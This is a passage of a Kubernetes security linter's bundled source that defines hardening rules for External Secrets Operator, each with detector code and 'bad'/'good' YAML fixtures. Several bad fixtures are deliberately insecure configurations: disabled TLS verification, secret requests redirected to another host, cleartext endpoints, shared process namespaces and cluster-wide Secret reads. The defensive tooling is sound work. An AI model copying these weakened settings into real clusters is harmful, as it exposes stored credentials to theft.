  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: settings, namespace: shop }
spec:
  target:
    manifest: { apiVersion: v1, kind: Secret }
  data: [{ secretKey: password, remoteRef: { key: database } }]
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: later, namespace: shop }
spec:
  target:
    manifest: { apiVersion: v1, kind: "\${KIND}" }
  data: [{ secretKey: password, remoteRef: { key: database } }]
`
  ],
  *check(manifest) {
    const target = targetOf(manifest);
    if (!target?.kind || !target.apiVersion || isSecret(target)) return;
    yield {
      path: [...target.path, "manifest"],
      message: `secret data is written into ${[target.kind, target.name].join(" ").trim()}, which is not kept like a Secret`
    };
  }
});

// src/rules/generic-targets-enabled.ts
var generic_targets_enabled_default = defineRule({
  id: "generic-targets-enabled",
  title: "ExternalSecrets may write other kinds than Secrets",
  severities: ["high"],
  kinds: WORKLOAD_KINDS,
  why: "Whoever may create an ExternalSecret changes objects of these kinds with the rights of the operator, though their own Role says no; and secret values land in ConfigMaps and custom resources, which are neither encrypted at rest nor guarded as Secrets are.",
  remedy: "Set `genericTargets.enabled: false` in the operator chart. Where a tool really needs the data in another kind, list only that one under `genericTargets.resources`, in an install of its own with `scopedRBAC: true`, and let an admission policy say who may use `target.manifest`.",
  references: ["https://external-secrets.io/latest/guides/targeting-custom-resources/"],
  guide: ["RM6", "AC3"],
  bad: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: external-secrets
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args:
            - --concurrent=1
            - --unsafe-allow-generic-targets=true # finding: the controller fills other kinds than Secrets and may write configmaps, applications.argoproj.io, secrets.apps
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: external-secrets }
rules:
  - { apiGroups: [""], resources: [configmaps, secrets, serviceaccounts/token], verbs: [create, update] }
  - { apiGroups: [argoproj.io], resources: [applications], verbs: ["*"] }
  - { apiGroups: [apps], resources: [deployments], verbs: [get, list] }
  - { apiGroups: [authentication.k8s.io], resources: [tokenreviews], verbs: [create] }
  - { apiGroups: [external-secrets.io], resources: [externalsecrets], verbs: [update] }
  - { apiGroups: [""], resources: [services], resourceNames: [leader], verbs: [update] }
  - { apiGroups: [apps], resources: [secrets, deployments/scale], verbs: [update] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: external-secrets }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: external-secrets }
subjects:
  - { kind: ServiceAccount, name: external-secrets, namespace: eso }
`,
    `
# A switch without a value is on. Its rights are not in the set.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args:
            - --unsafe-allow-generic-targets # finding: the controller fills other kinds than Secrets
            - --loglevel=info
`
  ],
  good: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args:
            - --unsafe-allow-generic-targets
            - --unsafe-allow-generic-targets=false
---
# Filled in later.
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: later }
spec:
  template:
    spec:
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args: ["--unsafe-allow-generic-targets=\${GENERIC_TARGETS}"]
---
# Another program.
apiVersion: apps/v1
kind: Deployment
metadata: { name: shop, namespace: eso }
spec:
  template:
    spec:
      containers:
        - name: shop
          image: registry.example.com/shop:v1
          args: [--unsafe-allow-generic-targets]
`
  ],
  *check(manifest, { eso, rbac }) {
    const component = eso.componentOf(manifest);
    if (component?.role !== "controller") return;
    const flags = flagsOf(component);
    const flag = flags.get(FLAG2);
    if (!flag || !isOn(flags, FLAG2, false)) return;
    const { serviceAccountName: name, namespace } = component.pod;
    const rules = rbac.rolesOf({ kind: "ServiceAccount", name, namespace }).flatMap(({ role }) => policyRules(role));
    const writable = [...new Set(rules.flatMap(targetsIn))];
    const which = writable.length > 0 ? ` and may write ${writable.join(", ")}` : "";
    yield { path: flag.path, message: `the controller fills other kinds than Secrets${which}` };
  },
  fix(fault) {
    if (fault.world.of(`${ESO_GROUP}/ExternalSecret`).some((object) => object.get("spec", "target", "manifest")))
      return void 0;
    const changes = fault.manifest?.template === void 0 ? without(fault.path) : chartValues(fault, { "genericTargets.enabled": false });
    return fault.world.has("complete") ? safe(changes) : unsafe(TARGETS, changes);
  }
});
var TARGETS = "Does an ExternalSecret that is not in this set fill another kind than a Secret? It fails from then on.";
var FLAG2 = "unsafe-allow-generic-targets";
var ITS_OWN_GROUPS = /* @__PURE__ */ new Set([
  ESO_GROUP,
  GENERATORS_GROUP,
  "coordination.k8s.io",
  "authentication.k8s.io",
  "authorization.k8s.io"
]);
var ITS_OWN_RESOURCES = /* @__PURE__ */ new Set(["secrets", "events", "namespaces"]);
var targetsIn = (rule2) => rule2.apiGroups.filter((group) => !ITS_OWN_GROUPS.has(group)).flatMap(
  (group) => rule2.resources.filter((resource) => !resource.includes("/") && !(group === "" && ITS_OWN_RESOURCES.has(resource))).filter((resource) => verbsGiven(rule2, { group, resource, verbs: ["create", "update", "patch"] }).length > 0).filter(() => rule2.resourceNames.length === 0).map((resource) => group === "" ? resource : `${resource}.${group}`)
);

// src/check/overridden-flags.ts
var SWITCHES = [
  [/^enable-(?:cluster-store|secret-store|cluster-external-secret|cluster-push-secret|push-secret)-reconciler$/, false],
  [/^unsafe-allow-generic-targets$/, false],
  [/^metrics-(?:secure|auth)$/, true]
];
function overriddenFlags(component) {
  const byName2 = Map.groupBy(flagsGiven(component), ([name]) => name);
  return [...byName2].flatMap(([name, given]) => {
    const flags = given.map(([, flag]) => flag).filter(({ value }) => isKnown(value));
    const last = flags.at(-1);
    if (!last || last !== given.at(-1)?.[1]) return [];
    const earlier = flags.slice(0, -1).find((flag) => isWeaker(name, flag.value, last.value));
    return earlier ? { name, earlier, last } : [];
  });
}
function isWeaker(name, earlier, last) {
  if (name === "namespace") return earlier !== "" && earlier !== last;
  const [, safe2] = SWITCHES.find(([known]) => known.test(name)) ?? [];
  return safe2 !== void 0 && earlier.toLowerCase() === String(safe2) && last.toLowerCase() === String(!safe2);
}
var isKnown = (value) => !isPlaceholder(value) && !value.includes("$(");

// src/model/pods/environment.ts
var ADDRESSES2 = [
  {
    name: /^AWS_(?:(?:STS|SSM|SECRETSMANAGER|ACM|RESOURCE_GROUPS_TAGGING_API|ECR|ECR_PUBLIC)_ENDPOINT|ENDPOINT_URL(?:_\w+)?)$/,
    what: "requests to AWS",
    home: ["*.amazonaws.com", "*.amazonaws.com.cn", "*.api.aws"]
  },
  { name: /^DOPPLER_BASE_URL$/, what: "requests to Doppler", home: ["*.doppler.com"] },
  { name: /^CLOUDRU_(?:DISCOVERY_URL|CSM_ADDRESS|IAM_ADDRESS)$/, what: "requests to Cloud.ru", home: ["*.cloud.ru"] },
  { name: /^VAULT_AGENT_ADDR$/, what: "requests to Vault", home: ["localhost", "127.0.0.1", "::1"] }
];
var UNVERIFIED = {
  DOPPLER_VERIFY_TLS: { value: false, what: "Doppler's" },
  VAULT_SKIP_VERIFY: { value: true, what: "Vault's" }
};
function weakeningBy({ name, value }) {
  if (!value || isPlaceholder(value) || value.includes("$(")) return void 0;
  const unverified = Object.hasOwn(UNVERIFIED, name) ? UNVERIFIED[name] : void 0;
  if (unverified)
    return parseBool(value) === unverified.value ? { by: "no verification", what: unverified.what } : void 0;
  const address = ADDRESSES2.find((variable) => variable.name.test(name));
  const target = address && parseAddress(value);
  if (!target) return void 0;
  const { host } = target;
  const isCleartext = target.scheme === "http" && !isLoopback(host);
  return isHostIn(host, address.home) && !isCleartext ? void 0 : { by: "address", what: address.what, host, isCleartext };
}
var parseBool = (text) => /^(?:1|t|T|true|TRUE|True)$/.test(text) ? true : /^(?:0|f|F|false|FALSE|False)$/.test(text) ? false : void 0;
var isLoopback = (host) => host === "localhost" || host === "::1" || /^127\.\d+\.\d+\.\d+$/.test(host);

// src/rules/hardening-overridden.ts
var hardening_overridden_default = defineRule({
  id: "hardening-overridden",
  title: "An extra setting undoes what protects the operator",
  severities: ["high"],
  kinds: WORKLOAD_KINDS,
  why: "The extra arguments, variables and pod fields of the chart come last and are checked by nobody: one line sends every request for a secret to another host, stops the check of its certificate, or switches on again what the other values switched off, which still read as safe.",
  remedy: "Take the line out of `extraArgs`, `extraEnv`, `podSpecExtra` or `extraContainers` in the operator chart, and say it with the value that is made for it. An endpoint that must be another one, such as a private one of AWS, goes over https and into `allowedEndpoints` in `.eso-hardener.yaml`.",
  references: [
    "https://external-secrets.io/latest/api/controller-options/",
    "https://docs.aws.amazon.com/sdkref/latest/guide/feature-ss-endpoints.html",
    "https://kubernetes.io/docs/tasks/configure-pod-container/share-process-namespace/"
  ],
  guide: ["TM1", "TM4"],
  bad: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      shareProcessNamespace: true # finding: the processes of its containers see each other, so that container debug reaches the memory and files of the controller
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args:
            - --namespace=team-a
            - --enable-cluster-store-reconciler=false
            - --enable-push-secret-reconciler=false
            - --enable-cluster-store-reconciler=true # finding: --enable-cluster-store-reconciler=true comes after --enable-cluster-store-reconciler=false and wins
            - --namespace= # finding: --namespace= comes after --namespace=team-a and wins
          env:
            - name: AWS_SECRETSMANAGER_ENDPOINT # finding: AWS_SECRETSMANAGER_ENDPOINT sends requests to AWS to secrets.example.com
              value: https://secrets.example.com
            - { name: AWS_STS_ENDPOINT, value: "http://sts.eu-west-1.amazonaws.com" } # finding: AWS_STS_ENDPOINT sends requests to AWS to sts.eu-west-1.amazonaws.com, in clear text
            - { name: DOPPLER_VERIFY_TLS, value: "false" } # finding: DOPPLER_VERIFY_TLS stops the check of Doppler's certificate
        - name: debug
          image: registry.example.com/debug:v1
`
  ],
  good: [
    `
# config: { allowedEndpoints: [secrets.example.com, "*.aws.example.com"] }
apiVersion: apps/v1
kind: Deployment
metadata: { name: external-secrets, namespace: eso }
spec:
  template:
    spec:
      shareProcessNamespace: true
      containers:
        - name: controller
          image: ghcr.io/external-secrets/external-secrets:v2.9.0
          args:
            - --namespace=team-a
            - --enable-push-secret-reconciler=true
            - --enable-push-secret-reconciler=false
            - --namespace=team-a
            - --loglevel=info
            - --loglevel=debug
          env:
            - { name: AWS_SECRETSMANAGER_ENDPOINT, value: "https://secrets.example.com" }
            - { name: AWS_ENDPOINT_URL_STS, value: "https://sts.aws.example.com:8443" }
            - { name: AWS_SSM_ENDPOINT, value: "https://vpce-0a1b.ssm.eu-west-1.vpce.amazonaws.com" }
            - { name: DOPPLER_BASE_URL, value: "\${DOPPLER_URL}" }
            - { name: AWS_ENDPOINT_URL, valueFrom: { configMapKeyRef: { name: aws, key: endpoint } } }
            - { name: HTTPS_PROXY, value: "http://proxy.example.com:3128" }
`,
    `
# Another program.
apiVersion: apps/v1
kind: Deployment
metadata: { name: shop, namespace: eso }
spec:
  template:
    spec:
      shareProcessNamespace: true
      containers:
        - name: shop
          image: registry.example.com/shop:v1
          env: [{ name: AWS_ENDPOINT_URL, value: "http://localstack:4566" }]
        - { name: proxy, image: "registry.example.com/proxy:v1" }
`
  ],
  *check(manifest, { eso, config: { allowedEndpoints = [] } }) {
    const component = eso.componentOf(manifest);
    if (!component) return;
    for (const { name, earlier, last } of overriddenFlags(component))
      yield {
        path: last.path,
        discriminator: name,
        message: `--${name}=${last.value} comes after --${name}=${earlier.value} and wins`,
        related: [{ manifest, path: earlier.path, message: "what it undoes" }]
      };
    for (const variable of environmentOf(component.pod, component.container)) {
      const weakening = weakeningBy(variable);
      if (weakening && !isAllowed(weakening, allowedEndpoints))
        yield { path: variable.path, message: `${variable.name} ${effectOf(weakening)}` };
    }
    yield* sharedProcesses(component);
  },
  fix: ({ path }) => unsafe(PURPOSE, path.at(-1) === "shareProcessNamespace" ? setting(path, false) : without(path))
});
var PURPOSE = "Does anything work only because of this setting?";
function effectOf(weakening) {
  if (weakening.by === "no verification") return `stops the check of ${weakening.what} certificate`;
  return `sends ${weakening.what} to ${weakening.host}${weakening.isCleartext ? ", in clear text" : ""}`;
}
var isAllowed = (weakening, allowed) => weakening.by === "address" && !weakening.isCleartext && isHostIn(weakening.host, allowed);
function* sharedProcesses({ pod, container, role }) {
  const others = pod.containers.filter((other) => other !== container && !other.path.includes("initContainers"));
  if (pod.spec.shareProcessNamespace !== true || others.length === 0) return;
  const names = others.map(({ name }) => name).join(", ");
  yield {
    path: [...pod.specPath, "shareProcessNamespace"],
    message: `the processes of its containers see each other, so that container ${names} reaches the memory and files of the ${role}`
  };
}

// src/rules/human-secret-access.ts
var human_secret_access_default = defineRule({
  id: "human-secret-access",
  title: "People who are no operators can read the Secrets of every namespace",
  severities: ["medium"],
  kinds: ["rbac.authorization.k8s.io/ClusterRoleBinding"],
  why: "With the operator in the cluster nobody needs to read Secrets by hand: it writes them, and pods take them. Whoever may read them everywhere holds all that the operator ever fetched, its own credentials included, and one stolen login is enough.",
  remedy: "Take secrets out of the role, or bind it with a RoleBinding in the namespaces that need it; let people write ExternalSecrets instead. Name those who must under `operators` in this tool's config.",
  references: [
    "https://external-secrets.io/latest/guides/security-best-practices/",
    "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#listing-secrets"
  ],
  guide: ["RM3"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: db, namespace: shop }
spec: { secretStoreRef: { name: vault }, target: { name: db } }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: support }
rules:
  - apiGroups: [""]
    resources: [pods, secrets]
    verbs: [get, list]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: support }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: support }
subjects:
  - { kind: ServiceAccount, name: support-bot, namespace: tools }
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: support } # finding: Group support can get, list the Secrets of all namespaces through ClusterRole support and is not a configured operator
---
# The built-in edit reads Secrets as well.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: developers }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: edit }
subjects:
  - apiGroup: rbac.authorization.k8s.io # finding: User ann can get, list, watch the Secrets of all namespaces through the built-in role edit
    kind: User
    name: ann
`
  ],
  good: [
    `
# config: { operators: [{ kind: Group, name: platform }] }
# Operators, parts of Kubernetes, somebody who is filled in later; roles that show no Secrets, or one.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: db, namespace: shop }
spec: { secretStoreRef: { name: vault }, target: { name: db } }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: admins }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: platform }
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: "system:masters" }
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: "\${ADMINS}" }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: some }
rules:
  - { apiGroups: [""], resources: [secrets], resourceNames: [public-key], verbs: [get] }
  - { apiGroups: [""], resources: [secrets], verbs: [create] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: viewers }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: view }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: some }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: some }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: developers, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: edit }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
`,
    `
# Nothing here is External Secrets Operator.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: admins }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: admins }
`
  ],
  *check(binding, world) {
    if (!holdsEso(world)) return;
    const grants = world.rbac.grantsIn(binding).filter(({ subject }) => isOrdinary(subject, world));
    if (grants.length === 0) return;
    const rights = rightsBy(binding, world.rbac);
    const verbs = verbsOfAnyName(rights, READ3);
    if (verbs.length === 0) return;
    const role = boundRoleName(binding, world.rbac);
    for (const { subject, path } of grants)
      yield {
        path,
        message: `${nameOfSubject(subject)} can ${verbs.join(", ")} the Secrets of all namespaces through ${role} and is not a configured operator`,
        related: rulesBehind(
          rights.filter((right) => verbsOfAnyName([right], READ3).length > 0),
          "the rule that gives it"
        )
      };
  },
  fix: (fault) => unsafe(NEEDED3, fault.path[0] === "subjects" ? withoutSubject(fault) : void 0)
});
var NEEDED3 = "Do the people named here read Secrets of other namespaces for their work? They need a RoleBinding there first.";
var READ3 = { group: "", resource: "secrets", verbs: ["get", "list", "watch"] };
var isOrdinary = (subject, world) => isHuman(subject) && !isUnknown(subject) && !world.isOperator(subject);

// src/rules/ignored-store-conditions.ts
var ignored_store_conditions_default = defineRule({
  id: "ignored-store-conditions",
  title: "A SecretStore has conditions, which only a ClusterSecretStore heeds",
  severities: ["low"],
  kinds: [`${ESO_GROUP}/SecretStore`],
  needs: ["stores"],
  why: "The operator reads conditions of a ClusterSecretStore only. A SecretStore serves its own namespace, whatever they say: whoever counts on them for more, or means to keep this namespace out, is mistaken.",
  remedy: "Remove `spec.conditions`, or make it a ClusterSecretStore if several namespaces are to share the store.",
  references: [
    "https://external-secrets.io/latest/api/clustersecretstore/",
    "https://external-secrets.io/latest/api/secretstore/"
  ],
  guide: ["NI1"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: own, namespace: shop }
spec:
  conditions: # finding: the operator ignores conditions of a SecretStore, which serves its own namespace shop only
    - namespaces: [shop, web]
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: own }
spec:
  conditions: # finding: which serves its own namespace only
    - namespaceSelector: {}
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: own, namespace: shop }
spec:
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: empty, namespace: shop }
spec:
  conditions: []
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: shared }
spec:
  conditions:
    - namespaces: [shop, web]
`
  ],
  *check(store) {
    if (asList(store.get("spec", "conditions")).length === 0) return;
    const where = store.namespace === void 0 ? "" : ` ${store.namespace}`;
    yield {
      path: ["spec", "conditions"],
      message: `the operator ignores conditions of a SecretStore, which serves its own namespace${where} only`
    };
  },
  fix: ({ path }) => ({ safety: "safe", changes: [{ kind: "field", path, value: void 0 }] })
});

// src/rules/incomplete-mutual-tls.ts
var incomplete_mutual_tls_default = defineRule({
  id: "incomplete-mutual-tls",
  title: "A store has half a client certificate, or none where one is required",
  severities: ["medium"],
  kinds: CONNECTED_KINDS,
  why: "A certificate without its key, or a key without its certificate, is not shown to the server: the store either fails, or signs in without the second factor that somebody meant it to have.",
  remedy: "Set both `certSecretRef` and `keySecretRef` (for Vault under `tls`). Hosts that ask for a client certificate are named under `requireClientCertificate` in this tool’s config.",
  references: ["https://external-secrets.io/latest/provider/hashicorp-vault/"],
  guide: ["NS4"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: half, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      tls:
        certSecretRef: { name: vault-client, key: tls.crt } # finding: tls.certSecretRef is set for Vault and tls.keySecretRef is not
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: other-half, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      tls:
        keySecretRef: { name: vault-client, key: tls.key } # finding: tls.keySecretRef is set for Vault and tls.certSecretRef is not
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
`,
    `
# config: { requireClientCertificate: ["*.example.com"] }
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: none, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com # finding: vault.example.com asks for a client certificate, and this store shows none
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
`
  ],
  good: [
    `
# config: { requireClientCertificate: [vault.example.com] }
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: both, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      tls:
        certSecretRef: { name: vault-client, key: tls.crt }
        keySecretRef: { name: vault-client, key: tls.key }
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: elsewhere, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.org
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
`
  ],
  *check(manifest, world) {
    const connected = connectedOf(manifest);
    if (!connected) return;
    for (const [present, absent] of halves(connected))
      yield {
        path: [...connected.path, ...keysOf(present)],
        message: `${present} is set for ${titleOf(connected)} and ${absent} is not`
      };
    const required = world.config.requireClientCertificate ?? [];
    if (required.length === 0 || showsCertificate(connected)) return;
    for (const { path, host } of endpointsOf(manifest, world))
      if (isHostIn(host, required))
        yield {
          path,
          message: `${host} asks for a client certificate, and this store shows none`,
          discriminator: "required"
        };
  }
});
function* halves({ known, config }) {
  for (const { certificate, key } of known?.clientCertificates ?? []) {
    if (key === void 0) continue;
    const [hasCertificate, hasKey] = [isSet(config, certificate), isSet(config, key)];
    if (hasCertificate && !hasKey) yield [certificate, key];
    if (hasKey && !hasCertificate) yield [key, certificate];
  }
}
var showsCertificate = ({ known, config }) => (known?.clientCertificates ?? []).some(({ certificate }) => isSet(config, certificate));

// src/check/crds-left-out.ts
var PAIRS = [
  {
    kind: "ClusterExternalSecret",
    create: "createClusterExternalSecret",
    process: "processClusterExternalSecret",
    flag: "enable-cluster-external-secret-reconciler"
  },
  {
    kind: "ClusterSecretStore",
    create: "createClusterSecretStore",
    process: "processClusterStore",
    flag: "enable-cluster-store-reconciler"
  },
  {
    kind: "SecretStore",
    create: "createSecretStore",
    process: "processSecretStore",
    flag: "enable-secret-store-reconciler"
  },
  {
    kind: "ClusterPushSecret",
    create: "createClusterPushSecret",
    process: "processClusterPushSecret",
    flag: "enable-cluster-push-secret-reconciler"
  },
  {
    kind: "PushSecret",
    create: "createPushSecret",
    process: "processPushSecret",
    flag: "enable-push-secret-reconciler"
  }
];
function* crdsLeftOut(values, { controller }, world) {
  const { chart } = values;
  if (!controller || !chart.isClear || isOff(inForce(values, ["installCRDs"]))) return;
  for (const { kind, create, process, flag } of PAIRS) {
    const path = ["crds", create];
    if (valueAt(chart.defaults, path) === void 0 || !isOff(inForce(values, path))) continue;
    const isSet2 = valueAt(values.set, path) !== void 0;
    const file = isSet2 ? void 0 : values.files.findLast(({ body }) => valueAt(body, path) !== void 0);
    const where = { path, object: null, values: file };
    if (!chart.mentions(path))
      yield { ...where, message: `the chart reads crds.${create} nowhere and installs the CRD of ${kind} all the same` };
    else if (valueAt(chart.defaults, [process]) !== void 0 && !isOff(inForce(values, [process])) && isOn(flagsOf(controller), flag, true) && world.schemas.crdsOf(`${ESO_GROUP}/${kind}`).length === 0)
      yield {
        ...where,
        message: `crds.${create} is off and ${process} is not: the controller waits for ${kind}s, a kind that this release does not install`
      };
  }
}
var inForce = ({ files, set, chart }, path) => [chart.defaults, ...files.map(({ body }) => body), set].map((body) => valueAt(body, path)).findLast((value) => value !== void 0);
var isOff = (value) => value === false || value === null || value === "" || value === 0;

// src/check/ineffective-values.ts
var isOwnChart = ({ controller }) => controller?.pod.manifest.template !== void 0 && !controller.pod.manifest.template.includes("/charts/");
function* ineffectiveValues({ files, set, chart }) {
  for (const values of [...files, void 0])
    for (const { path, message } of ineffectiveIn(values?.body ?? set, chart))
      yield { path, message, object: null, values };
}
function* ineffectiveIn(body, chart) {
  if (chart.isClear) {
    const foreign2 = /* @__PURE__ */ new Set(["global", ...chart.subcharts]);
    const own = Object.entries(body).filter(([key]) => !foreign2.has(key));
    yield* unknownKeys(Object.fromEntries(own), chart.defaults, chart, []);
  }
  const targets = Object.hasOwn(chart.defaults, "genericTargets") ? asMapping(body.genericTargets) : void 0;
  const resources = asList(targets?.resources);
  for (const [i, item] of resources.entries())
    if (asMapping(item)?.apiGroups !== void 0 && asMapping(item)?.apiGroup === void 0)
      yield {
        path: ["genericTargets", "resources", i, "apiGroups"],
        message: `genericTargets.resources[${i}] has apiGroups, and the chart reads apiGroup: the operator gets no right to these resources`
      };
}
function* unknownKeys(values, known, chart, above) {
  const unused = Object.keys(known).filter((key) => !Object.hasOwn(values, key));
  for (const [key, value] of Object.entries(values)) {
    const path = [...above, key];
    if (Object.hasOwn(known, key)) {
      const [below, defaults] = [asMapping(value), asMapping(known[key])];
      const isFree = isEmpty(known[key]) || chart.takesWhole(path) || !chart.mentions(path);
      if (below && defaults && !isFree) yield* unknownKeys(below, defaults, chart, path);
    } else if (saysSomething(key, value) && !chart.mentions(path)) yield { path, message: unknownKey(path, unused) };
  }
}
var saysSomething = (key, value) => !isEmpty(value) && !/^(?:x-|[._])/.test(key) && !isPlaceholder(key);
var isEmpty = (value) => value === null || value === "" || typeof value === "object" && Object.keys(value ?? {}).length === 0;
function unknownKey(path, candidates) {
  const near = nearest(path.at(-1) ?? "", candidates);
  const advice = near === void 0 ? "" : ` (did you mean ${[...path.slice(0, -1), near].join(".")}?)`;
  return `the chart knows no value ${path.join(".")} and ignores it${advice}`;
}

// src/rules/ineffective-setting.ts
var ineffective_setting_default = defineRule({
  id: "ineffective-setting",
  title: "A setting of the operator is written down and does nothing",
  severities: ["medium", "low"],
  kinds: ["rbac.authorization.k8s.io/Role"],
  why: "Helm does not complain about a value that the chart does not know. Whoever reads the values believes that the operator is restricted, and it runs with the defaults: all namespaces, all kinds, all rights.",
  remedy: "Write the value as the chart's own values.yaml has it (`helm show values`), or take it out. In `genericTargets.resources` the key is `apiGroup`. Where `crds.create…` leaves out a CRD, set its `process…` to false as well. The label `rbac.authorization.k8s.io/aggregate-to-*` works on a ClusterRole only: with `scopedRBAC: true` bind the Role yourself, and set `rbac.aggregateToView`, `rbac.aggregateToEdit` and `rbac.aggregateToAdmin` to false.",
  references: [
    "https://github.com/external-secrets/external-secrets/blob/main/deploy/charts/external-secrets/values.yaml",
    "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#aggregated-clusterroles"
  ],
  guide: ["RM7"],
  bad: [
    `
# What helm renders with scopedRBAC: true. A values file has findings as well: \`installCRDS: true\` gives
# "the chart knows no value installCRDS and ignores it (did you mean installCRDs?)" on its line.
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: external-secrets-view
  namespace: team-a
  labels:
    rbac.authorization.k8s.io/aggregate-to-view: "true" # finding[low]: Role team-a/external-secrets-view has the label aggregate-to-view, which does nothing on a Role
    rbac.authorization.k8s.io/aggregate-to-edit: "true"
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets, secretstores]
    verbs: [get, watch, list]
`
  ],
  good: [
    `
# A ClusterRole is what the label is for.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: external-secrets-view
  labels:
    rbac.authorization.k8s.io/aggregate-to-view: "true"
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [get, watch, list]
---
# It has nothing to do with the operator.
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: viewer
  namespace: shop
  labels:
    rbac.authorization.k8s.io/aggregate-to-view: "true"
rules:
  - apiGroups: [""]
    resources: [configmaps]
    verbs: [get]
---
# Switched off.
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata:
  name: external-secrets-edit
  namespace: team-a
  labels:
    rbac.authorization.k8s.io/aggregate-to-edit: "false"
rules:
  - apiGroups: [external-secrets.io]
    resources: [externalsecrets]
    verbs: [create]
`
  ],
  *check(role) {
    const label = Object.entries(asLabels(role.get("metadata", "labels"))).find(
      ([key, value]) => key.startsWith(AGGREGATE) && value === "true"
    )?.[0];
    if (label !== void 0 && isAboutOperator(role))
      yield {
        path: ["metadata", "labels", label],
        message: `${nameOf(role)} has the label ${label.slice(label.indexOf("/") + 1)}, which does nothing on a Role: only ClusterRoles are aggregated`,
        severity: "low"
      };
  },
  *checkInstall(install, world) {
    const values = install.release === void 0 ? void 0 : world.values.get(install.release);
    if (!values || !isOwnChart(install)) return;
    yield* ineffectiveValues(values);
    yield* crdsLeftOut(values, install, world);
  },
  fix: ({ manifest, path }) => manifest ? safe(without(path)) : void 0
